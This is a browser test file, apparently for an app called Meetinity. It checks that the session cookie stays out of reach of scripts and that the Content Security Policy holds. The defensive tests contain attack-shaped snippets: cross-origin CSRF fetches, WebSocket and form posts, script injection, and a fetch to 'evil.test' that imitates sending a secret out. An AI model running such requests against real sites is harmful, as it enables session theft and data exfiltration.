// The session cookie and the policies in a real browser: what our own page can do, and what a page
// of another site, or of another port of the same host, cannot.
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect } from "vitest";
import { operation } from "../../schema/operations.ts";
import { aPerson } from "../kit/stories.ts";
import { useSite } from "./site.ts";
import { scenario } from "./stage.ts";

const site = useSite();
let foreign: Server;
beforeAll(async () => {
  foreign = createServer((_request, response) => {
    response.setHeader("content-type", "text/html").end("<!doctype html><title>Foreign</title>");
  }).listen(0, "127.0.0.1");
  await once(foreign, "listening");
});
afterAll(() => foreign.close());

/** Of a page at another host, and of one at another port of our host, which is of the same site. */
const foreignUrls = () => {
  const { port } = foreign.address() as AddressInfo;
  return [`http://127.0.0.1:${port}/`, `http://localhost:${port}/`];
};
const session = () => new URL("/session", site().url()).href;

interface Sent {
  readonly status: number;
  readonly text: string;
}

/** The answer that a script of the page gets for a mutation. */
function mutate(page: Page, query: string, input: object, url = session()): Promise<Sent> {
  const init = {
    method: "POST",
    credentials: "include",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ query, variables: { input } }),
  } as const;
  return page.evaluate(
    async ([to, how]) => {
      const response = await fetch(to, how);
      return { status: response.status, text: await response.text() };
    },
    [url, init] as const,
  );
}

const refresh = (page: Page) => mutate(page, operation("RefreshSession"), {});

/** A browser in which somebody has signed in at our page. */
async function signedIn(page: Page): Promise<void> {
  const { email, password } = await aPerson();
  await page.goto(site().url("sign-in"));
  // The app has found no session, and has forgotten its cookie.
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  const { status, text } = await mutate(page, operation("SignIn"), { email, password });
  expect([status, JSON.parse(text)]).toMatchObject([
    200,
    { data: { signIn: { __typename: "SignInSuccess", refreshToken: "" } } },
  ]);
}

scenario(
  "a session lives in a cookie that no script sees, over reloads and in all tabs",
  async (stage) => {
    const { page, context, newTab } = await stage.visitor("ada");
    await signedIn(page);
    // The cookie of the device outlives sessions.
    const cookies = async () =>
      (await context.cookies(session())).filter(({ name }) => name !== "meetinity_device");
    const [cookie] = await cookies();
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/session" });
    expect(await page.evaluate("document.cookie")).toBe("");
    expect(await context.cookies(site().url())).toEqual([]);

    // The app signs in by the cookie as well, here and in the new tab.
    await page.reload();
    await page.getByRole("heading", { name: "Conversations" }).waitFor();
    const tab = await newTab();
    await tab.goto(site().url("sign-in"));
    await tab.getByRole("heading", { name: "Conversations" }).waitFor();
    for (const each of [page, tab, page]) {
      const { text } = await refresh(each);
      expect(text).toContain('"RefreshSessionSuccess"');
      expect(text).not.toContain(cookie?.value);
    }
    expect((await cookies())[0]?.value).not.toBe(cookie?.value);

    expect(
      await page.evaluate(`fetch("/session", { method: "DELETE" }).then((r) => r.status)`),
    ).toBe(204);
    expect(await cookies()).toEqual([]);
    expect((await refresh(tab)).text).toContain('"InvalidRefreshTokenProblem"');
  },
);

scenario(
  "a page of another origin can neither use the session nor read the graph",
  async (stage) => {
    const { page, context, newTab, announce } = await stage.visitor("ada");
    await signedIn(page);
    const [before] = await context.cookies(session());
    announce(/40[35]|415|CORS|ERR_FAILED|WebSocket|Content Security/);
    const graphql = new URL("/graphql", site().url()).href;
    for (const url of foreignUrls()) {
      const tab = await newTab();
      await tab.goto(url);
      for (const to of [session(), graphql])
        await expect(mutate(tab, operation("RefreshSession"), {}, to)).rejects.toThrow(/fetch/);
      const plain = `fetch(${JSON.stringify(session())}, { method: "POST", mode: "no-cors",
      credentials: "include", body: "{}" }).then((response) => response.type)`;
      expect(await tab.evaluate(plain)).toBe("opaque");
      const opened = `new Promise((resolve) => {
      const socket = new WebSocket(${JSON.stringify(graphql.replace("http", "ws"))},
        "graphql-transport-ws");
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    })`;
      expect(await tab.evaluate(opened)).toBe(false);
      const form = `(() => { const form = document.createElement("form"); form.method = "post";
      form.action = ${JSON.stringify(session())}; form.enctype = "text/plain";
      document.body.append(form); form.submit(); })()`;
      const answered = tab.waitForResponse(session());
      await tab.evaluate(form);
      expect((await answered).status()).toBe(403);
    }
    expect((await context.cookies(session()))[0]).toEqual(before);
    expect((await refresh(page)).text).toContain('"RefreshSessionSuccess"');
  },
);

scenario(
  "our page runs no script and shows no style that was put into it, and is in no frame",
  async (stage) => {
    const { page, newTab, announce } = await stage.visitor("ada");
    await page.goto(site().url("sign-in"));
    announce(/Content Security Policy|ERR_BLOCKED_BY_RESPONSE|frame/i);
    const injected = `(() => { const script = document.createElement("script");
    script.textContent = "window.isInjected = true"; document.body.append(script);
    return window.isInjected === undefined; })()`;
    expect(await page.evaluate(injected)).toBe(true);
    const styled = `(() => { document.body.insertAdjacentHTML("beforeend",
    '<p id="styled" style="position: fixed">x</p>');
    return getComputedStyle(document.getElementById("styled")).position; })()`;
    expect(await page.evaluate(styled)).toBe("static");
    const sent = `fetch("https://evil.test/?secret").then(() => "sent", () => "refused")`;
    expect(await page.evaluate(sent)).toBe("refused");

    const [url = ""] = foreignUrls();
    const tab = await newTab();
    await tab.goto(url);
    await tab.evaluate(`new Promise((resolve) => { const frame = document.createElement("iframe");
    frame.onload = resolve; frame.src = ${JSON.stringify(site().url())};
    document.body.append(frame); })`);
    expect(await tab.frames()[1]?.evaluate("document.title")).not.toBe("Meetinity");
  },
);
